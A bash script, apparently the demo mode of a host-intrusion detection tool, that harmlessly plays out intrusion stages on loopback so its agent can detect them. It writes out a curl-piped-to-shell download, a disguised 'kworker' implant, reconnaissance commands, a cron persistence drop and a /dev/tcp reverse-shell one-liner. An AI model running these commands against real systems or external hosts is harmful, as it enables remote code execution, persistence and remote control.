# Vigil's demo intrusion: what an intruder's first minutes on a Linux server look like,
# played harmlessly on this host by `vigil demo` while its agent watches. Everything
# stays on loopback and in the demo's own directory; the one file written outside it
# (a cron entry holding only a comment) is removed at once.
#
# `vigil demo` runs this with bash, as root, in a fresh directory, with HTTP_PORT (a
# loopback web server of the demo's that serves stage.sh) and LISTEN_PORT (a loopback
# listener that answers a reverse shell with `exit`).
set -u
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY
step() { printf '  [%s] %s\n' "$1" "$2"; }

step 1/5 "initial access: a script downloaded and piped straight into a shell"
bash -c "curl -fsS http://127.0.0.1:$HTTP_PORT/stage.sh | sh" >/dev/null 2>&1

step 2/5 "execution: the dropped implant runs from /tmp"
implant="$PWD/.cache/kworker"
mkdir -p "$(dirname "$implant")"
cp /bin/true "$implant"
chmod 755 "$implant"
"$implant"

step 3/5 "discovery: a burst of reconnaissance commands"
{ id; whoami; uname -a; hostname; cat /etc/os-release; ip addr; ss -tan; ps aux; w; } >/dev/null 2>&1

step 4/5 "persistence: a job dropped into /etc/cron.d (a comment only, removed at once)"
cron="/etc/cron.d/vigil-demo-$$"
echo "# vigil demo: removed at once" >"$cron"
rm -f "$cron"

step 5/5 "command and control: an interactive reverse shell to 127.0.0.1"
timeout 10 bash -c "bash -i >& /dev/tcp/127.0.0.1/$LISTEN_PORT 0>&1" >/dev/null 2>&1
true
